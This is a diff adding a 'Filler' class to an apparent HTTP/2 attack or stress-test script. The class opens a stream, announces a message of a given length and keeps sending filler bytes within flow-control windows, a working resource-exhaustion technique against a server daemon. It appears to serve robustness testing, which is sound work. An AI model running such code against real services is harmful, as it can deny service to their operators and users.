@@ -95,6 +95,58 @@ class Attacker:
         return frame(HEADERS, flags, self.stream, first_block(path) if self.stream == 1 else NEXT_BLOCK)
 
 
+class Filler:
+    """One connection with one call, whose message never ends: it says that it has `length` bytes."""
+
+    def __init__(self, address, path, length):
+        self.s, self.buffer, self.sent = connect(address), b"", 0
+        self.room = {0: 65535, 1: 65535}  # the daemon's windows
+        self.initial = 65535
+        self.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + frame(HEADERS, END_HEADERS, 1, first_block(path)))
+        self.data(b"\0" + struct.pack(">I", length))
+
+    def write(self, data):
+        try:
+            self.s.sendall(data)
+        except OSError as e:
+            raise Cut from e
+
+    def data(self, payload):
+        self.write(frame(DATA, 0, 1, payload))
+        self.sent += len(payload)
+        for stream in self.room:
+            self.room[stream] -= len(payload)
+
+    def fill(self, most):
+        """Sends as the windows allow, until so many bytes have left."""
+        part = b"x" * (1 << 14)
+        while self.sent < most:
+            if min(self.room.values()) >= len(part):
+                self.data(part)
+            else:
+                self.read()
+
+    def read(self):
+        try:
+            data = self.s.recv(1 << 16)
+        except ConnectionError as e:
+            raise Cut from e
+        if not data:
+            raise Cut
+        self.buffer += data
+        while len(self.buffer) >= 9 and len(self.buffer) >= 9 + (size := int.from_bytes(self.buffer[:3], "big")):
+            kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
+            payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
+            if kind == PING and not flags & ACK:
+                self.write(frame(PING, ACK, 0, payload))
+            elif kind == WINDOW_UPDATE:
+                self.room[stream] += struct.unpack(">I", payload)[0]
+            elif kind == SETTINGS and not flags & ACK:
+                for value in (v for k, v in struct.iter_unpack(">HI", payload) if k == 4):
+                    self.room[1] += value - self.initial
+                    self.initial = value
+
+
 def repeat(address, until, attack, **how):
     """Runs attack(attacker) on one connection after the other; how often one was cut."""
     cuts = 0
